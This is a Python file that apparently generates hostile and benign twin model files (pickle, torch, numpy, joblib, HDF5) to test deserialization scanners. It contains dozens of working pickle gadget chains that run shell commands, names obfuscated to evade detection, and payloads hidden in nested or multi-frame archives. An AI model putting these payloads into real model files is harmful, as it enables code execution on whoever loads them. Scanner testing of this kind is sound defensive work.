"""Pickles, torch archives and numpy files: resolvers, runners and encodings of other parts of the libraries."""
import bz2
import gzip
import io
import json
import lzma
import zipfile

from assembly import Raw, build, call, dot, get, glob, model, new, pickle, put, seq, val
from first.arrays import h5, npy
from first.containers import EVIL, FLOATS, GOOD, state, tarred, torch_zip, zipped
from first.stdlib_calls import EXEC, PLAIN, SYSTEM
from pair import CODE, SHELL, Set

IMPORT = f"__import__('os').system('{SHELL}')"
OS = glob("shutil", "os")
CLICK = call(SYSTEM, SHELL)


def named(module, name):
    """STACK_GLOBAL over two computed strings."""
    return Raw(val(module) + val(name) + b"\x93")


def live():
    yield "rpc-dotted", call(call(glob("xmlrpc.server", "resolve_dotted_attribute"), OS, "system"), SHELL)
    yield "logging-resolve", call(call(glob("logging.config", "_resolve"), "os.system"), SHELL)
    yield "script-helper", call(glob("test.support.script_helper", "assert_python_ok"), "-c", CODE)
    yield "runpy-code", call(glob("runpy", "_run_code"), call(glob("builtins", "compile"), CODE, "m", "exec"), {})
    yield "dataclass-function", call(call(glob("dataclasses", "_create_fn"), "f", [], [CODE]))
    yield "heap-key", call(glob("heapq", "nsmallest"), 1, [SHELL], SYSTEM)
    yield "join-of-map", call(dot("builtins", "bytes", "join"), b"", call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "counter-of-map", call(glob("collections", "Counter"), call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "keys-of-filter", call(dot("builtins", "dict", "fromkeys"), call(glob("itertools", "filterfalse"), SYSTEM, [SHELL]))
    yield "profile-run", call(glob("cProfile", "run"), CODE)
    yield "to-thread", call(glob("asyncio", "run"), call(glob("asyncio", "to_thread"), SYSTEM, SHELL))
    yield "finalize-priority", call(call(glob("multiprocessing.util", "Finalize"), None, SYSTEM, (SHELL,), None, 1))
    yield "sub-interpreter", call(glob("_xxsubinterpreters", "run_string"), call(glob("_xxsubinterpreters", "create")), f"import os; os.system('{SHELL}')")
    connection = put(9, call(glob("sqlite3", "connect"), ":memory:"))
    yield "sqlite-function", seq(connection, call(dot("sqlite3", "Connection", "create_function"), get(9), "f", 1, SYSTEM), call(dot("sqlite3", "Connection", "execute"), get(9), f"select f('{SHELL}')"))
    yield "file-io", call(glob("_io", "FileIO"), "marker", "w")
    yield "wave-write", call(glob("wave", "open"), "marker", "wb")
    yield "named-pipe", call(glob("os", "mkfifo"), "marker")
    finder = build(new(glob("pickle", "_Unpickler")), {"proto": 4, "fix_imports": False})
    yield "unpickler-find", call(call(dot("pickle", "_Unpickler", "find_class"), finder, "os", "system"), SHELL)
    yield "frames-removed", call(glob("importlib._bootstrap", "_call_with_frames_removed"), SYSTEM, SHELL)
    yield "type-with-init", call(call(glob("builtins", "type"), "Config", (), {"__init__": call(glob("functools", "partial"), EXEC, CODE)}))
    yield "old-reconstructor", call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"), ["touch", "marker"])
    yield "temporary-pager", call(glob("pydoc", "tempfilepager"), "x", "touch marker; true")
    yield "mailcap-test", call(glob("mailcap", "findmatch"), {"text/plain": [{"test": SHELL, "view": "cat"}]}, "text/plain")
    yield "entry-point", call(call(dot("importlib.metadata", "EntryPoint", "load"), call(glob("importlib.metadata", "EntryPoint"), "x", "os:system", "g")), SHELL)
    yield "slot-state-module", seq(build(call(glob("importlib", "import_module"), "string"), (None, {"capwords": SYSTEM})), call(glob("string", "capwords"), SHELL))
    yield "numpy-assert-raises", call(glob("numpy.testing", "assert_raises"), glob("builtins", "ValueError"), SYSTEM, SHELL)
    yield "numpy-converters", call(glob("numpy", "loadtxt"), [SHELL], glob("builtins", "float"), "#", ",", {0: SYSTEM})
    yield "joblib-batch", call(dot("joblib.parallel", "BatchedCalls", "__call__"), build(new(glob("joblib.parallel", "BatchedCalls")), {"items": [(SYSTEM, (SHELL,), {})], "_size": 1, "_backend": call(glob("joblib._parallel_backends", "SequentialBackend")), "_n_jobs": 1, "_reducer_callback": None, "_pickle_cache": {}}))
    yield "loky-call-item", call(dot("joblib.externals.loky.process_executor", "_CallItem", "__call__"), build(new(glob("joblib.externals.loky.process_executor", "_CallItem")), {"fn": SYSTEM, "args": (SHELL,), "kwargs": {}, "loky_pickler": None}))
    yield "pandas-index-map", call(dot("pandas", "Index", "map"), call(glob("pandas", "Index"), [SHELL]), SYSTEM)
    yield "networkx-relabel", call(glob("networkx", "relabel_nodes"), call(glob("networkx", "path_graph"), [SHELL]), SYSTEM)
    yield "sympy-matrix", call(glob("sympy", "Matrix"), [[IMPORT]])
    yield "patsy-formula", call(glob("patsy", "dmatrix"), f"I({IMPORT})", {"x": [1]})
    yield "skops-import", call(call(glob("skops.io._utils", "_import_obj"), "os", "system"), SHELL)
    yield "dill-eval", call(glob("dill._dill", "_eval_repr"), IMPORT)
    yield "jinja-import", call(call(glob("jinja2.utils", "import_string"), "os:system"), SHELL)
    yield "psutil-process", call(glob("psutil", "Popen"), ["touch", "marker"])
    yield "click-open", call(glob("click", "open_file"), "marker", "w")
    yield "wrapt-resolve", call(call(dot("operator", "itemgetter", "__call__"), call(glob("operator", "itemgetter"), 2), call(glob("wrapt", "resolve_path"), "os", "system")), SHELL)
    yield "name-from-entity", call(named(call(glob("html", "unescape"), "&#111;&#115;"), "system"), SHELL)
    yield "name-from-percent", call(named("os", call(glob("urllib.parse", "unquote"), "%73%79%73%74%65%6d")), SHELL)
    yield "name-from-json", call(named(call(glob("json", "loads"), '"\\u006f\\u0073"'), "system"), SHELL)
    yield "name-normalised", call(named("os", call(glob("unicodedata", "normalize"), "NFKC", "ｓｙｓｔｅｍ")), SHELL)


def torch():
    """(name, file, hostile, twin)"""
    ordered = call(glob("collections", "OrderedDict"))
    both = lambda x: (torch_zip(state(x)), torch_zip(state(ordered)))
    inner = pickle(CLICK)
    yield "datapipe-decoder", "m.pt", *both(call(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pkl", inner))
    yield "guard-expression", "m.pt", *both(call(dot("torch.fx.experimental.symbolic_shapes", "ShapeEnv", "evaluate_guards_expression"), new(glob("torch.fx.experimental.symbolic_shapes", "ShapeEnv")), IMPORT, []))
    yield "config-module", "m.pth", *both(call(dot("torch.utils._config_module", "ConfigModule", "load_config"), glob("torch._inductor", "config"), inner))
    yield "checkpoint-callback", "last.ckpt", *both(call(glob("lightning_fabric.utilities.seed", "os.system"), SHELL))
    zip64 = lambda data: sixty_four([("archive/data.pkl", data), ("archive/byteorder", b"little"), ("archive/data/0", FLOATS), ("archive/version", b"3\n")])
    yield "zip64-records", "m.pt", zip64(state(CLICK)), zip64(state())
    yield "upper-root-name", "m.bin", torch_zip(state(CLICK), root="Модель"), torch_zip(state(), root="Модель")
    yield "optimizer-beside", "m.pt", torch_zip(state(), [("optimizer.pkl", EVIL)]), torch_zip(state(), [("optimizer.json", b"{}")])
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    old = lambda keys: magic + pickle(1001, 2) + pickle({"protocol_version": 1001, "little_endian": True}, 2) + pickle({"w": 1}, 2) + keys
    yield "legacy-keys-pickle", "m.pth", old(pickle([CLICK], 2)), old(pickle([], 2))
    yield "in-nemo-in-zip", "bundle.zip", zipped([("asr.nemo", tarred([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(state(CLICK)))]))]), zipped([("asr.nemo", tarred([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(state()))]))])


def sixty_four(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members:
            with z.open(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
                f.write(data)
    return out.getvalue()


def arrays():
    """(name, file, hostile, twin, prove)"""
    import joblib
    import lz4.frame

    yield "joblib-cache-folder", None, {"output.pkl": EVIL, "metadata.json": json.dumps({"duration": 0.1})}, {"output.pkl": GOOD, "metadata.json": json.dumps({"duration": 0.1})}, "joblib"
    yield "joblib-lzma", "m.joblib.xz", lzma.compress(EVIL), lzma.compress(GOOD), "joblib"
    yield "joblib-lz4-second-frame", "m.joblib", lz4.frame.compress(EVIL[:9]) + lz4.frame.compress(EVIL[9:]), lz4.frame.compress(GOOD[:9]) + lz4.frame.compress(GOOD[9:]), None
    squeezed = lambda body: bz2.compress(npy("'|O'", "(1,)", body))
    yield "npy-bz2", "a.npy.bz2", squeezed(EVIL), squeezed(pickle(["plain"], 2)), None
    yield "npy-version-three", "a.npy", npy("[('é', '|O')]", "(1,)", EVIL, 3), npy("[('é', '<f4')]", "(1,)", b"\0" * 4, 3), None
    yield "npy-fortran-object", "a.npy", npy("'|O8'", "(2, 2)", EVIL), npy("'<f8'", "(2, 2)", b"\0" * 32), None
    yield "npz-in-npz-name", "weights.npz", zipped([("arr_0.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("arr_0.npy.pkl", EVIL)]), zipped([("arr_0.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("arr_1.npy", npy("'<f4'", "(1,)", b"\0" * 4))]), None
    yield "h5-table-rows", "store.h5", h5({"rows": b"\0" * 24, "values_block_0": EVIL}), h5({"rows": b"\0" * 24, "values_block_0": b"\5" * 30}), None
    plain = io.BytesIO()
    joblib.dump({"w": [1.0, 2.0]}, plain)
    yield "joblib-then-pickle", "m.joblib", plain.getvalue() + EVIL, plain.getvalue(), None
    yield "gzip-tail", "m.pkl.gz", gzip.compress(GOOD, mtime=0) + gzip.compress(EVIL, mtime=0), gzip.compress(GOOD, mtime=0) + gzip.compress(GOOD, mtime=0), None


def add(out: Set):
    for n, (name, hostile) in enumerate(live()):
        out.add("pickle", name, pickle(model(hostile)), pickle(model(PLAIN[(n + 5) % len(PLAIN)])), "pickle", file=["clf.pkl", "scaler.pickle", "state.bin", "vectorizer.dat"][n % 4])
    for name, file, hostile, twin in torch():
        out.add("torch", name, hostile, twin, file=file)
    for name, file, hostile, twin, prove in arrays():
        out.add("arrays", name, hostile, twin, prove, file=file)
